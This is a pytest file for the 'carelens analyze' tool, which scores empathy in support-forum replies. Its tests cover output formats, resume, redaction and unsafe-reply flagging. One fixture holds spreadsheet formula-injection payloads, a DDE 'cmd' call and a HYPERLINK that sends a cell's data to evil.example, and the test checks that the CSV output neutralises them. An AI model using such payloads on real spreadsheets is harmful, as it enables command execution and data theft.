"""``carelens analyze`` with the shipped model: formats, tables, rejects, errors, resume."""

from __future__ import annotations

import csv
import json
import shutil
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest
from typer.testing import Result

from carelens.analysis.empathy import EmpathyAnalyzer
from carelens.output import options_path, read_results
from carelens.types import Exchange, ResponseAnalysis

Invoke = Callable[..., Result]
CheckRecords = Callable[[Sequence[dict[str, Any]], Sequence[dict[str, str]]], None]
PairRows = Callable[[Path], list[dict[str, str]]]


@pytest.mark.parametrize("suffix", [".jsonl", ".csv", ".parquet"])
def test_analyze_writes_every_format(
    invoke: Invoke,
    data: Path,
    tmp_path: Path,
    suffix: str,
    check_records: CheckRecords,
    pair_rows: PairRows,
) -> None:
    out = tmp_path / f"results{suffix}"
    result = invoke("analyze", data / "pairs.csv", "-o", out)
    assert result.exit_code == 0, result.output
    rows = pair_rows(data / "pairs.csv")
    check_records(list(read_results(out)), rows)
    assert "pairs analysed" in result.stdout and "8" in result.stdout
    assert "Responses per level" in result.stdout
    assert not Path(f"{out}.rejects.jsonl").exists()  # no rejects: no empty file left
    if suffix == ".jsonl":  # the file itself is plain JSON Lines
        lines = out.read_text(encoding="utf-8").splitlines()
        assert [json.loads(line)["response_id"] for line in lines] == [
            row["response_id"] for row in rows
        ]
    if suffix == ".csv":
        with out.open(encoding="utf-8", newline="") as fh:
            first = next(csv.DictReader(fh))
        assert {"emotional_reaction_level", "exploration_p2", "interpretation_spans"} <= set(first)
        assert isinstance(json.loads(first["interpretation_spans"]), list)


def test_analyze_thread_keeps_speaker_and_time(invoke: Invoke, data: Path, tmp_path: Path) -> None:
    out = tmp_path / "thread.jsonl"
    assert invoke("analyze", data / "thread.jsonl", "-o", out, "-q").exit_code == 0
    records = list(read_results(out))
    assert [r["response_id"] for r in records] == ["t2", "t3", "t4"]
    assert [r["speaker"] for r in records] == ["jon", "maya", "ana"]
    assert records[0]["conversation_id"] == "c1"
    assert records[2]["timestamp"] == "2024-03-01T10:20:00Z"


PAIRS_WITH_NAMES = [
    {"seeker_id": "s1", "response_id": "r1", "seeker": "I failed my exam again.",
     "response": "That sounds exhausting. What happened?", "speaker": "maya",
     "seeker_speaker": "ana", "timestamp": "2024-03-01T10:00:00Z", "conversation_id": "c1",
     "community": "study"},
    {"seeker_id": "s2", "response_id": "r2", "seeker": "My dog is sick.",
     "response": "I'm so sorry.", "speaker": "jon", "timestamp": "2024-04-02T08:30:00Z"},
]  # fmt: skip


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_analyze_pairs_keep_speaker_and_time(invoke: Invoke, tmp_path: Path, suffix: str) -> None:
    source = tmp_path / f"pairs{suffix}"
    if suffix == ".csv":
        with source.open("w", encoding="utf-8", newline="") as fh:
            writer = csv.DictWriter(fh, fieldnames=list(PAIRS_WITH_NAMES[0]))
            writer.writeheader()
            writer.writerows(PAIRS_WITH_NAMES)
    else:
        source.write_text("".join(json.dumps(r) + "\n" for r in PAIRS_WITH_NAMES), "utf-8")
    out = tmp_path / "results.jsonl"
    result = invoke("analyze", source, "-o", out, "-q")
    assert result.exit_code == 0, result.output
    records = list(read_results(out))
    fields = ("speaker", "seeker_speaker", "timestamp", "conversation_id", "community")
    assert [tuple(r[f] for f in fields) for r in records] == [
        ("maya", "ana", "2024-03-01T10:00:00Z", "c1", "study"),
        ("jon", None, "2024-04-02T08:30:00Z", None, None),
    ]


def test_analyze_without_output_prints_a_table(
    invoke: Invoke, data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    result = invoke("analyze", data / "pairs.csv")
    assert result.exit_code == 0, result.output
    assert "Levels per response" in result.stdout
    for rid in ("r1", "r4", "r8"):
        assert f" {rid} " in result.stdout
    assert "That sounds really discouraging" in result.stdout
    assert list(tmp_path.iterdir()) == []  # nothing written, not even an empty rejects file


def test_analyze_table_is_capped(
    invoke: Invoke, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    source = write_many(tmp_path / "many.csv", 60)
    result = invoke("analyze", source)
    assert result.exit_code == 0, result.output
    assert "first 50 of 60 responses" in result.stdout
    assert " r49 " in result.stdout and " r50 " not in result.stdout


def test_malformed_input_gives_rejects_and_good_rows(
    invoke: Invoke, data: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out.jsonl"
    result = invoke("analyze", data / "malformed.jsonl", "-o", out)
    assert result.exit_code == 0, result.output
    assert [r["response_id"] for r in read_results(out)] == ["b1", "b4"]
    rejects = Path(f"{out}.rejects.jsonl")
    entries = [json.loads(x) for x in rejects.read_text(encoding="utf-8").splitlines()]
    assert [(e["line"], e["reason"]) for e in entries] == [
        (2, "malformed JSON"),
        (3, "missing text"),
        (4, "malformed JSON"),
    ]
    assert "rejected records" in result.stdout and "malformed JSON" in result.stdout
    assert str(rejects) in result.stdout.replace("\n", "")


@pytest.mark.parametrize(("forced", "hint"), [("jsonl", "is the file really jsonl?"), (None, None)])
def test_a_file_whose_every_record_is_rejected_gets_a_hint(
    invoke: Invoke, tmp_path: Path, forced: str | None, hint: str | None
) -> None:
    """A CSV read as JSON Lines ended with a summary of zeros and no word on why."""
    source = tmp_path / "pairs.csv"
    source.write_text("sp_id,rp_id,seeker_post,response_post\na,b,I feel alone,Oh no\n", "utf-8")
    args = ["--format", forced] if forced else []
    if forced is None:  # a file that is detected, with one record and no text
        source = tmp_path / "pairs.jsonl"
        source.write_text('{"seeker": "I feel alone", "response": ""}\n', encoding="utf-8")
    result = invoke("analyze", source, "-o", tmp_path / "o.jsonl", *args)
    assert result.exit_code == 1, result.output  # nothing analysed: a failure
    said = " ".join(result.stderr.split())
    assert "error: Nothing was analysed:" in said
    if hint:
        assert "all 2 records were rejected" in said and hint in said
    else:
        assert "the only record was rejected" in said and "rejects file say why" in said


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        (
            "posts.csv",
            "message_id,thread_id,parent_id,author,timestamp,text\n"
            "m1,t1,,ann,2024-01-01,I feel so alone\nm2,t2,,bob,2024-01-02,Nobody listens\n",
            "no message in the file answers another (its 2 messages each open a conversation)",
        ),
        ("header.csv", "sp_id,rp_id,seeker_post,response_post\n", "the file holds no message"),
        ("blank.jsonl", "\n\n", "the file holds no message"),
    ],
)
def test_a_file_that_gives_no_pair_says_why_and_what_it_needs(
    invoke: Invoke, tmp_path: Path, name: str, content: str, reason: str
) -> None:
    """A file read without a reject that gives no pair ended with a summary of zeros and no
    word on why."""
    source = tmp_path / name
    source.write_text(content, encoding="utf-8")
    result = invoke("analyze", source, "-o", tmp_path / "o.jsonl", "-q")
    assert result.exit_code == 1, result.output
    said = " ".join(result.stderr.split())
    assert f"error: Nothing was analysed: {reason}" in said
    assert "the file needs replies" in said


def test_a_file_whose_replies_are_all_skipped_says_so(invoke: Invoke, tmp_path: Path) -> None:
    source = tmp_path / "dump.jsonl"
    rows = [
        {"id": "p1", "name": "t3_p1", "title": "Alone", "selftext": "I feel so alone",
         "author": "a", "created_utc": 1700000000, "subreddit": "x"},
        {"id": "c1", "name": "t1_c1", "parent_id": "t3_p1", "link_id": "t3_p1",
         "body": "[deleted]", "author": "[deleted]", "created_utc": 1700000100, "subreddit": "x"},
    ]  # fmt: skip
    source.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    result = invoke("analyze", source, "--format", "reddit", "-o", tmp_path / "o.jsonl", "-q")
    assert result.exit_code == 1, result.output
    said = " ".join(result.stderr.split())
    assert "Nothing was analysed: no message and reply to it is left once the items" in said
    assert "give a file with replies to messages that are still there" in said


def test_rejects_path_option(invoke: Invoke, data: Path, tmp_path: Path) -> None:
    rejects = tmp_path / "bad.jsonl"
    result = invoke(
        "analyze", data / "malformed.jsonl", "-o", tmp_path / "o.csv", "--rejects", rejects
    )
    assert result.exit_code == 0
    assert len(rejects.read_text(encoding="utf-8").splitlines()) == 3


def test_column_map(invoke: Invoke, tmp_path: Path) -> None:
    source = tmp_path / "renamed.csv"
    source.write_text("qid,aid,question,answer\nq1,a1,I feel low.,I'm sorry. What's wrong?\n")
    out = tmp_path / "o.jsonl"
    result = invoke(
        "analyze", source, "-o", out, "--column-map", "seeker_id=qid", "-m", "response_id=aid",
        "-m", "seeker=question", "-m", "response=answer",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert [r["response_id"] for r in read_results(out)] == ["a1"]
    bad = invoke("analyze", source, "--column-map", "seeker_id")
    assert bad.exit_code == 2 and "canonical=column" in bad.stderr  # a usage error


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--model", "no-such-model"], "no-such-model: no such folder"),
    ],
)
def test_bad_options_exit_1_with_one_line(
    invoke: Invoke, data: Path, args: list[str], message: str
) -> None:
    result = invoke("analyze", data / "pairs.csv", *args)
    assert result.exit_code == 1
    assert result.stderr.startswith("error: ")
    assert message in result.stderr
    assert "Traceback" not in result.output
    assert len(result.stderr.strip().splitlines()) == 1


def test_missing_file_exits_1(invoke: Invoke, tmp_path: Path) -> None:
    result = invoke("analyze", tmp_path / "absent.csv")
    assert result.exit_code == 1
    assert "no such file" in result.stderr and "absent.csv" in result.stderr
    assert "Traceback" not in result.output


def test_verbose_error_shows_the_traceback(invoke: Invoke, tmp_path: Path) -> None:
    result = invoke("analyze", tmp_path / "absent.csv", "-v")
    assert result.exit_code == 1
    assert "Traceback" in result.stderr and "InputError" in result.stderr
    assert result.stderr.rstrip().splitlines()[-1].startswith("error: ")


def write_many(path: Path, n: int) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["seeker_id", "response_id", "seeker", "response"])
        for i in range(n):
            writer.writerow(
                [
                    f"s{i // 3}",
                    f"r{i}",
                    f"I had a rough day, part {i}.",
                    f"Oh no. Tell me more ({i}).",
                ]
            )
    return path


def test_interrupted_run_resumes(
    invoke: Invoke,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    check_records: CheckRecords,
    pair_rows: PairRows,
) -> None:
    source = write_many(tmp_path / "many.csv", 600)  # three chunks of up to 256 pairs
    out = tmp_path / "out.jsonl"
    original = EmpathyAnalyzer.predict
    calls: list[int] = []

    def predict_then_stop(
        self: EmpathyAnalyzer, pairs: Sequence[Exchange]
    ) -> list[ResponseAnalysis]:
        calls.append(len(pairs))
        if len(calls) == 2:
            raise KeyboardInterrupt
        return original(self, pairs)

    monkeypatch.setattr(EmpathyAnalyzer, "predict", predict_then_stop)
    stopped = invoke("analyze", source, "-o", out)
    assert stopped.exit_code == 130
    assert "interrupted" in stopped.stderr and "resume" in stopped.stderr
    assert len(list(read_results(out))) == 256
    with out.open("r+b") as fh:  # the interruption also cut the last record mid-line
        fh.truncate(out.stat().st_size - 20)

    monkeypatch.setattr(EmpathyAnalyzer, "predict", original)
    resumed = invoke("analyze", source, "-o", out)
    assert resumed.exit_code == 0, resumed.output
    assert "255 already in the output" in resumed.stdout
    check_records(list(read_results(out)), pair_rows(source))


def test_interrupted_parquet_output_names_the_file_that_holds_the_results(
    invoke: Invoke, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = write_many(tmp_path / "many.csv", 260)  # a chunk of 256 pairs, then 4
    out = tmp_path / "out.parquet"
    original = EmpathyAnalyzer.predict
    calls: list[int] = []

    def predict_then_stop(
        self: EmpathyAnalyzer, pairs: Sequence[Exchange]
    ) -> list[ResponseAnalysis]:
        calls.append(len(pairs))
        if len(calls) == 2:
            raise KeyboardInterrupt
        return original(self, pairs)

    monkeypatch.setattr(EmpathyAnalyzer, "predict", predict_then_stop)
    stopped = invoke("analyze", source, "-o", out)
    assert stopped.exit_code == 130
    partial = tmp_path / "out.parquet.partial.jsonl"
    assert len(list(read_results(partial))) == 256 and not out.exists()
    said = " ".join(stopped.stderr.split())
    assert f"The results so far are kept in {partial} ({out} is written when the run" in said
    calls[:] = [0]  # stop at the first chunk: nothing is written
    fresh = invoke("analyze", source, "-o", tmp_path / "fresh.parquet")
    assert fresh.exit_code == 130
    assert "No results had been written yet." in fresh.stderr
    assert "kept in" not in fresh.stderr


def test_a_refused_resume_keeps_the_rejects_of_the_output(
    invoke: Invoke, data: Path, tmp_path: Path
) -> None:
    """The rejects file was opened (emptied) before the resume was checked, and removed when
    the refused run had logged no reject, so the interrupted output lost its list."""
    out = tmp_path / "out.jsonl"
    assert invoke("analyze", data / "malformed.jsonl", "-o", out, "-q").exit_code == 0
    rejects = Path(f"{out}.rejects.jsonl")
    listed = rejects.read_bytes()
    assert len(listed.splitlines()) == 3
    with out.open("r+b") as fh:  # an interrupted run: the last record cut mid-line
        fh.truncate(out.stat().st_size - 20)
    refused = invoke("analyze", data / "malformed.jsonl", "-o", out, "--no-text")
    assert refused.exit_code == 1 and "--no-text" in refused.stderr
    assert rejects.read_bytes() == listed
    assert not Path(f"{rejects}.partial.jsonl").exists()
    elsewhere = tmp_path / "bad.jsonl"  # an explicit --rejects file is kept alike
    elsewhere.write_text("earlier\n", encoding="utf-8")
    refused = invoke(
        "analyze", data / "malformed.jsonl", "-o", out, "--redact", "--rejects", elsewhere
    )
    assert refused.exit_code == 1
    assert elsewhere.read_text(encoding="utf-8") == "earlier\n"
    resumed = invoke("analyze", data / "malformed.jsonl", "-o", out)
    assert resumed.exit_code == 0, resumed.output
    assert rejects.read_bytes() == listed  # the resumed run read every record again


def test_a_resume_with_another_build_of_the_model_is_refused(
    invoke: Invoke, data: Path, tmp_path: Path
) -> None:
    """Two builds share the id ``carelens-empathy-minilm``; the id alone let a resume mix
    their results in one output."""
    from carelens.inference.artifact import default_model_dir, update_calibration

    other = tmp_path / "other-model"
    shutil.copytree(default_model_dir(), other)
    temperatures = json.loads((other / "manifest.json").read_text(encoding="utf-8"))
    doubled = [t * 2 for t in temperatures["calibration"]["temperatures"]]
    update_calibration(other, {"temperatures": doubled})
    out = tmp_path / "out.jsonl"
    assert invoke("analyze", data / "pairs.csv", "-o", out, "-q").exit_code == 0
    with out.open("r+b") as fh:  # an interrupted run
        fh.truncate(out.stat().st_size - 20)
    kept = out.read_bytes()
    refused = invoke("analyze", data / "pairs.csv", "-o", out, "--model", other)
    assert refused.exit_code == 1
    said = " ".join(refused.stderr.split())
    assert "another build of the model 'carelens-empathy-minilm'" in said
    assert out.read_bytes() == kept
    resumed = invoke("analyze", data / "pairs.csv", "-o", out)
    assert resumed.exit_code == 0, resumed.output


def test_a_run_without_rejects_removes_an_older_runs_list(
    invoke: Invoke, data: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out.jsonl"
    rejects = Path(f"{out}.rejects.jsonl")
    rejects.write_text('{"line": 2}\n', encoding="utf-8")
    assert invoke("analyze", data / "pairs.csv", "-o", out, "-q").exit_code == 0
    assert not rejects.exists()
    assert not Path(f"{rejects}.partial.jsonl").exists()


def test_resume_of_another_input_is_refused(invoke: Invoke, data: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    assert invoke("analyze", data / "pairs.csv", "-o", out, "-q").exit_code == 0
    other = invoke("analyze", data / "malformed.jsonl", "-o", out)
    assert other.exit_code == 1
    assert "--overwrite" in other.stderr
    again = invoke("analyze", data / "malformed.jsonl", "-o", out, "--overwrite")
    assert again.exit_code == 0
    assert [r["response_id"] for r in read_results(out)] == ["b1", "b4"]


def test_output_folder_is_created(invoke: Invoke, data: Path, tmp_path: Path) -> None:
    out = tmp_path / "new" / "folder" / "out.jsonl"
    assert invoke("analyze", data / "pairs.csv", "-o", out, "-q").exit_code == 0
    assert len(list(read_results(out))) == 8


def test_rejects_folder_is_created(invoke: Invoke, data: Path, tmp_path: Path) -> None:
    rejects = tmp_path / "new3" / "r.jsonl"
    result = invoke(
        "analyze", data / "malformed.jsonl", "-o", tmp_path / "o.jsonl", "--rejects", rejects
    )
    assert result.exit_code == 0, result.output
    assert len(rejects.read_text(encoding="utf-8").splitlines()) == 3


@pytest.mark.parametrize("where", ["rejects", "output"])
def test_output_paths_are_checked_before_the_model_is_loaded(
    invoke: Invoke, data: Path, tmp_path: Path, where: str
) -> None:
    # A model that does not exist: the path error must come first, and leave nothing behind.
    blocker = tmp_path / "plain.txt"
    blocker.write_text("x", encoding="utf-8")
    out, rejects = tmp_path / "new" / "o.jsonl", tmp_path / "new2" / "r.jsonl"
    if where == "rejects":
        rejects = blocker / "r.jsonl"
    else:
        out = blocker / "o.jsonl"
    args = ("-o", out, "--rejects", rejects, "--model", tmp_path / "no-such-model")
    result = invoke("analyze", data / "pairs.csv", *args)
    assert result.exit_code == 1
    assert f"{blocker}: this is a file" in result.stderr
    assert "no-such-model" not in result.stderr
    folder = tmp_path / "folder.jsonl"
    folder.mkdir()
    result = invoke("analyze", data / "pairs.csv", "-o", tmp_path / "o.jsonl", f"--{where}", folder)
    assert result.exit_code == 1
    assert f"--{where} names a folder" in result.stderr
    missing = invoke("analyze", tmp_path / "absent.csv", "-o", tmp_path / "new4" / "o.jsonl")
    assert missing.exit_code == 1 and "no such file" in missing.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["folder.jsonl", "plain.txt"]


def write_personal(path: Path, n: int) -> Path:
    """A pairs CSV with a web address in every third response."""
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["seeker_id", "response_id", "seeker", "response"])
        for i in range(n):
            link = f" See https://example.org/help{i} for more." if i % 3 == 0 else ""
            writer.writerow([f"s{i}", f"r{i}", f"I feel low today ({i}).", f"I hear you.{link}"])
    return path


def test_resume_with_other_text_options_is_refused(invoke: Invoke, tmp_path: Path) -> None:
    source = write_personal(tmp_path / "small.csv", 40)
    full = tmp_path / "full.jsonl"
    assert invoke("analyze", source, "-o", full, "-q").exit_code == 0
    out = tmp_path / "r.jsonl"
    out.write_bytes(full.read_bytes()[:20_000])  # an interrupted run: records and a cut one
    complete = out.read_bytes().count(b"\n")
    assert 5 < complete < 35
    # (Without it, an output of an older carelens, any resume is refused: see
    # tests/cli/test_cli_resume_integrity.py.)
    options_path(out).write_bytes(options_path(full).read_bytes())
    kept = out.read_bytes()
    for option in ("--redact", "--no-text"):
        result = invoke("analyze", source, "-o", out, option)
        assert result.exit_code == 1, result.output
        said = " ".join(result.stderr.split())
        if option == "--redact":  # resuming without it would write the rest unredacted
            assert "the existing output was written without --redact and this run is" in said
            assert "to resume it" not in said and "cannot be resumed with --redact" in said
        else:
            assert f"the existing output was written without {option} and this run is" in said
            assert f"run again without {option} to resume it" in said
        assert "remove or rename the output" in said
        assert out.read_bytes() == kept  # the run was refused before anything was written
    resumed = invoke("analyze", source, "-o", out)
    assert resumed.exit_code == 0, resumed.output
    assert f"{complete} already in the output" in resumed.stdout
    assert out.read_bytes() == full.read_bytes()


def test_redact_removes_personal_data_from_results_and_screen(
    invoke: Invoke, tmp_path: Path
) -> None:
    source = tmp_path / "pairs.jsonl"
    seeker = "I want to die. Write to me at kim@example.com or call 555-123-4567."
    response = "I'm so sorry you feel this way. Text me on +44 20 7946 0958, I'm here for you."
    row = {"seeker_id": "s1", "response_id": "r1", "seeker": seeker, "response": response}
    source.write_text(json.dumps(row) + "\n", encoding="utf-8")
    out = tmp_path / "out.jsonl"
    result = invoke("analyze", source, "-o", out, "--redact")
    assert result.exit_code == 0, result.output
    written = out.read_text(encoding="utf-8")
    for secret in ("kim@example.com", "555-123-4567", "7946 0958"):
        assert secret not in written
    (record,) = [json.loads(line) for line in written.splitlines()]
    assert "[email]" in record["seeker_text"] and "[phone]" in record["response_text"]
    for value in record.values():
        if isinstance(value, dict) and "spans" in value and "level" in value:
            for span in value["spans"]:
                assert record["response_text"][span["start"] : span["end"]] == span["text"]
    for cue in record["seeker"]["crisis_cues"]:
        assert record["seeker_text"][cue["start"] : cue["end"]] == cue["text"]
    screen = invoke("analyze", source, "--redact", "--no-text")
    assert screen.exit_code == 0, screen.output
    assert "7946" not in screen.stdout


def test_logs_and_rejects_hold_no_personal_data(invoke: Invoke, tmp_path: Path) -> None:
    # Personal data in good records, in a malformed line and in a record with a blank reply:
    # with -v (debug logs) nothing of it reaches the logs or the rejects file, which name
    # file, line, field and reason only; with --redact, nor the results.
    secrets = ("kim@example.com", "555-123-4567", "@kimtheriver", "12 Elm Street")
    good = {
        "seeker_id": "s1",
        "response_id": "r1",
        "seeker": f"Write to me at {secrets[0]} or call {secrets[1]}.",
        "response": f"I'm here for you, {secrets[2]}. Is {secrets[3]} safe tonight?",
    }
    blank = {**good, "response_id": "r2", "response": "   "}
    lines = [
        json.dumps(good),
        '{"seeker": "mail ' + secrets[0] + '", "response": ',  # malformed JSON
        json.dumps(blank),
        json.dumps({**good, "response_id": "r3", "seeker": "my number: " + secrets[1]}),
    ]
    source = tmp_path / "pairs.jsonl"
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "out.jsonl"
    rejects = tmp_path / "rejects.jsonl"
    result = invoke("analyze", source, "-o", out, "--rejects", rejects, "-v", "--redact")
    assert result.exit_code == 0, result.output
    entries = [json.loads(line) for line in rejects.read_text().splitlines()]
    assert [e["line"] for e in entries] == [2, 3]
    assert "DEBUG" in result.stderr or "debug" in result.stderr.lower()  # the logs were on
    for secret in secrets:
        assert secret not in result.stderr
        assert secret not in result.stdout
        assert secret not in rejects.read_text()
        assert secret not in out.read_text()


def test_unsafe_replies_are_counted_and_kept_apart(invoke: Invoke, tmp_path: Path) -> None:
    source = tmp_path / "pairs.jsonl"
    seeker = "Nobody would even notice if I was gone."
    rows = [
        {
            "seeker_id": "s1",
            "response_id": "r1",
            "seeker": seeker,
            "response": "Whatever. Just die.",
        },
        {
            "seeker_id": "s1",
            "response_id": "r2",
            "seeker": seeker,
            "response": "I'd notice. Tell me?",
        },
    ]
    source.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    screen = invoke("analyze", source)
    assert screen.exit_code == 0, screen.output
    assert "unsafe replies" in screen.stdout
    assert "1 response urges self-harm or gives method information" in screen.stdout
    out = tmp_path / "out.csv"
    assert invoke("analyze", source, "-o", out).exit_code == 0
    with out.open(encoding="utf-8", newline="") as fh:
        written = list(csv.DictReader(fh))
    assert [r["unsafe_reply"] for r in written] == ["True", "False"]
    (words,) = json.loads(written[0]["unsafe_spans"])
    assert (words["text"], words["label"]) == ("Just die", "urging")
    assert json.loads(written[1]["unsafe_spans"]) == []
    unsafe, kind = read_results(out)
    assert unsafe["unsafe"][0]["text"] == "Just die" and kind["unsafe"] == []


#: What a spreadsheet may take as the start of a formula (CSV or formula injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A thread from untrusted forum users whose texts, ids and names begin like formulas.
FORMULA_THREAD = [
    {"id": "s0", "conversation_id": "+c", "speaker": "=cmd|' /C calc'!A0",
     "text": '=HYPERLINK("http://evil.example/?"&A1,"click me") I feel so alone.'},
    {"id": "r0", "conversation_id": "+c", "speaker": "helper", "reply_to": "s0",
     "text": "@SUM(1+1) I'm so sorry, how are you?"},
    {"id": "-r1", "conversation_id": "+c", "speaker": "'quoted", "reply_to": "s0",
     "text": "-5 days is a long time to feel that way. What happened?"},
    {"id": "=r2", "conversation_id": "+c", "speaker": "@maya", "reply_to": "s0",
     "text": "\tThat sounds hard. I'm here."},
]  # fmt: skip


def test_csv_output_starts_no_formula_and_reads_back_as_written(
    invoke: Invoke, tmp_path: Path
) -> None:
    source = tmp_path / "thread.jsonl"
    source.write_text("".join(json.dumps(t) + "\n" for t in FORMULA_THREAD), encoding="utf-8")
    out, exact = tmp_path / "out.csv", tmp_path / "out.jsonl"
    for path in (out, exact):
        result = invoke("analyze", source, "-o", path, "-q")
        assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as fh:
        header, *rows = csv.reader(fh)
    assert len(rows) == 3
    for row in rows:
        cells = dict(zip(header, row, strict=True))
        assert not [c for c in cells.values() if c.startswith(FORMULA_STARTS)], cells
        assert cells["seeker_speaker"] == "'=cmd|' /C calc'!A0"  # a text in any spreadsheet
        assert cells["conversation_id"] == "'+c"
        numbers = [c for name, c in cells.items() if name.endswith(("_level", "_p0", "_p2"))]
        assert all(float(c) >= 0 for c in numbers)  # written as numbers, no apostrophe
    # carelens reads its own CSV back exactly: as the exact format holds the same run.
    records = list(read_results(out))
    assert records == list(read_results(exact))
    assert [r["speaker"] for r in records] == ["helper", "'quoted", "@maya"]
    assert [r["response_id"] for r in records] == ["r0", "-r1", "=r2"]
    assert records[2]["response_text"] == "\tThat sounds hard. I'm here."
    # A re-run resumes the CSV (its texts read back as the input's): nothing is added.
    kept = out.read_bytes()
    again = invoke("analyze", source, "-o", out)
    assert again.exit_code == 0, again.output
    assert "3 already in the output" in again.stdout
    assert out.read_bytes() == kept


def test_helper_keeps_only_the_named_speakers_responses(
    invoke: Invoke, data: Path, tmp_path: Path
) -> None:
    # maya opened the thread; her answer to jon (t3) is a reply too, but not a helper's.
    out = tmp_path / "helpers.jsonl"
    result = invoke(
        "analyze", data / "thread.jsonl", "-o", out, "--helper", "JON", "--helper", "a*"
    )
    assert result.exit_code == 0, result.output
    assert [r["response_id"] for r in read_results(out)] == ["t2", "t4"]
    said = " ".join(result.stdout.split())
    assert "pairs analysed │ 2" in said
    assert "left out │ 1 response by speakers not named by --helper" in said
    assert json.loads(options_path(out).read_text(encoding="utf-8"))["helpers"] == ["JON", "a*"]


def test_helper_that_matches_no_one_says_so(invoke: Invoke, data: Path, tmp_path: Path) -> None:
    result = invoke("analyze", data / "thread.jsonl", "--helper", "vol-*")
    assert result.exit_code == 1, result.output  # nothing analysed
    said = " ".join(result.stderr.split())
    assert "no response of the 3 read is by a speaker that matches --helper vol-*" in said


def test_resume_with_other_helpers_is_refused(invoke: Invoke, data: Path, tmp_path: Path) -> None:
    out = tmp_path / "r.jsonl"
    assert (
        invoke("analyze", data / "thread.jsonl", "-o", out, "--helper", "jon", "-q").exit_code == 0
    )
    kept = out.read_bytes()
    for other in (["--helper", "ana"], ["--helper", "jon", "--helper", "ana"], []):
        result = invoke("analyze", data / "thread.jsonl", "-o", out, *other)
        assert result.exit_code == 1, result.output
        said = " ".join(result.stderr.split())
        assert "the existing output holds the responses of --helper jon and this run asks" in said
        assert "run again with the same --helper patterns to resume it" in said
        assert out.read_bytes() == kept
    again = invoke("analyze", data / "thread.jsonl", "-o", out, "--helper", "JON")
    assert again.exit_code == 0, again.output  # the same speaker: case is ignored
    assert "1 already in the output" in again.stdout
    # an output begun without --helper holds every response: resuming it with one is refused
    every = tmp_path / "every.jsonl"
    assert invoke("analyze", data / "thread.jsonl", "-o", every, "-q").exit_code == 0
    refused = invoke("analyze", data / "thread.jsonl", "-o", every, "--helper", "jon")
    assert refused.exit_code == 1
    assert "holds the responses of every speaker" in " ".join(refused.stderr.split())
